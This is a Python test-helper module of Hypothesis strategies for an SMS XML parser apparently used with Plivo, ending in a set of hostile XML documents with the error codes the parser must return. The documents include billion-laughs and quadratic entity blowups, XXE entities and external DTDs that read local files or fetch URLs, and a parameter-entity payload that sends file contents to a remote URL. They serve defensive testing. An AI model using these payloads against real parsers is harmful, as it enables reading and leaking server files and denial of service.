"""Hypothesis strategies and hostile XML documents shared by several test modules.

Test modules import these from here (``from strategies import urls``), never from one
another; bench/run.py times the same hostile documents. Strategies used by one module only
stay in that module.

- Text: ``utf8_char`` / ``utf8_text``, any character UTF-8 can carry (no lone surrogates).
- Plivo values: ``tokens`` (auth tokens), ``plivo_nonces`` (20 digits, as Plivo sends),
  ``nonces`` (those or any text), ``urls()`` (the ASCII URLs a request line can hold).
- Hostile XML: ``BILLION_LAUGHS``, ``quadratic_blowup()``, ``external_documents()`` (XXE,
  external DTDs, parameter entities), ``deep_nesting()``, ``over_the_cap()`` (10 MiB), and
  ``hostile_documents()``: one of each kind with the error code smsxml must report for it.
"""

from __future__ import annotations

import os

from hypothesis import strategies as st

# --- how many examples -------------------------------------------------------------------------

#: CI (and ``HYPOTHESIS_PROFILE=ci``) tries every example a test asks for; a developer's run
#: tries a fifth of them (at least 10), as Hypothesis suggests with its dev and CI profiles.
#: Tests that leave the number to Hypothesis get the profile loaded in conftest.py.
THOROUGH = (
    os.environ.get("CI", "").lower() in ("1", "true", "yes")
    or os.environ.get("HYPOTHESIS_PROFILE") == "ci"
)


def examples(n: int) -> int:
    """``n`` examples in a thorough run, a fifth of them (at least 10) in a quick one."""
    return n if THOROUGH else max(10, n // 5)


# --- text --------------------------------------------------------------------------------------

#: Any character UTF-8 can carry: everything but lone surrogates (category Cs).
utf8_char = st.characters(exclude_categories=("Cs",))
utf8_text = st.text(utf8_char)

# --- Plivo values ------------------------------------------------------------------------------

tokens = st.text(utf8_char, min_size=1, max_size=60)
#: A nonce as Plivo sends it: 20 decimal digits.
plivo_nonces = st.from_regex(r"\A[0-9]{20}\Z")
#: What a nonce header may hold: Plivo's kind, or any text at all.
nonces = st.one_of(plivo_nonces, utf8_text)

# A URL on the wire is ASCII (anything else is percent-encoded); the SDK crashes on others.
_url_text = st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7E), max_size=30)
_path_text = _url_text.map(lambda s: s.replace("?", "").replace("#", "").replace(";", ""))


@st.composite
def urls(draw: st.DrawFn) -> str:
    """http(s) URLs with any host, port, path, query string and fragment."""
    scheme = draw(st.sampled_from(["http", "https"]))
    host = draw(st.from_regex(r"\A[a-z0-9]([a-z0-9-]{0,20}[a-z0-9])?(\.[a-z]{2,6}){0,2}\Z"))
    port = draw(st.one_of(st.just(""), st.integers(1, 65535).map(lambda p: f":{p}")))
    path = draw(_path_text)
    query = draw(st.one_of(st.just(""), _url_text.map(lambda q: "?" + q.replace("#", ""))))
    fragment = draw(st.one_of(st.just(""), _url_text.map(lambda f: "#" + f)))
    return f"{scheme}://{host}{port}/{path.lstrip('/')}{query}{fragment}"


# --- hostile XML -------------------------------------------------------------------------------

SRC, DST = "12025550000", "14155550100"
#: smsxml reads at most 2 MiB; these documents are five times that.
TEN_MIB = 10 * 2**20

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n  <!ENTITY lol "lol">\n'
    + "".join(
        f'  <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + ']>\n<Response><Message src="1" dst="2">&lol9;</Message></Response>'
)


def quadratic_blowup(size: int) -> str:
    """An entity of ``size`` characters referenced ``size`` times (no nesting needed)."""
    return (
        f'<!DOCTYPE Response [<!ENTITY a "{"x" * size}">]>'
        f'<Response><Message src="{SRC}" dst="{DST}">{"&a;" * size}</Message></Response>'
    )


def external_documents(file_url: str, http_url: str) -> dict[str, str]:
    """name → a document that would read ``file_url`` or fetch from ``http_url`` if the
    parser honoured its DTD."""
    body = f'<Response><Message src="{SRC}" dst="{DST}">&xxe;</Message></Response>'
    return {
        "entity-file": f'<!DOCTYPE Response [<!ENTITY xxe SYSTEM "{file_url}">]>{body}',
        "entity-http": f'<!DOCTYPE Response [<!ENTITY xxe SYSTEM "{http_url}/entity">]>{body}',
        "dtd-file": f'<!DOCTYPE Response SYSTEM "{file_url}"><Response/>',
        "dtd-http": f'<!DOCTYPE Response SYSTEM "{http_url}/dtd"><Response/>',
        "dtd-public": f'<!DOCTYPE Response PUBLIC "-//X//Y" "{http_url}/public"><Response/>',
        # parameter entities, expanded inside the DTD itself
        "parameter-entity": (
            f'<!DOCTYPE Response [<!ENTITY % pe SYSTEM "{http_url}/pe"> %pe;]><Response/>'
        ),
        "parameter-entity-exfiltration": (
            f'<!DOCTYPE Response [<!ENTITY % f SYSTEM "{file_url}">'
            f"<!ENTITY % e \"<!ENTITY &#x25; x SYSTEM '{http_url}/?%f;'>\"> %e; %x;]><Response/>"
        ),
        "unparsed-entity": (
            f'<!DOCTYPE Response [<!ENTITY xxe SYSTEM "{file_url}" NDATA txt>]><Response/>'
        ),
    }


def deep_nesting(depth: int, element: str = "a") -> str:
    """``<Response>`` holding ``depth`` nested ``element``s."""
    return f"<Response>{f'<{element}>' * depth}{f'</{element}>' * depth}</Response>"


def over_the_cap(unit: str, size: int = TEN_MIB) -> str:
    """``<Response>`` holding ``unit`` repeated to about ``size`` characters."""
    return "<Response>" + unit * (size // len(unit)) + "</Response>"


def hostile_documents(file_url: str, http_url: str) -> dict[str, tuple[str, str]]:
    """name → (document, the error code smsxml must report first), one of each kind."""
    xxe = external_documents(file_url, http_url)
    return {
        "billion-laughs": (BILLION_LAUGHS, "doctype-forbidden"),
        "quadratic-blowup": (quadratic_blowup(50_000), "doctype-forbidden"),
        "external-file": (xxe["entity-file"], "doctype-forbidden"),
        "external-http": (xxe["entity-http"], "doctype-forbidden"),
        "external-dtd": (xxe["dtd-http"], "doctype-forbidden"),
        "parameter-entities": (xxe["parameter-entity-exfiltration"], "doctype-forbidden"),
        "huge-attribute": (
            f'<Response><Message src="{SRC}" dst="{DST}" {"x" * 1_000_000}="1">'
            "Hi</Message></Response>",
            "unknown-attribute",
        ),
        "huge-attribute-value": (
            f'<Response><Message src="{"A" * 1_000_000}" dst="{DST}">Hi</Message></Response>',
            "bad-number",
        ),
        "deep-nesting": (deep_nesting(100_000), "unknown-element"),
        "ten-megabytes": (
            over_the_cap(f'<Message src="{SRC}" dst="{DST}">Hello there</Message>\n'),
            "too-large",
        ),
    }
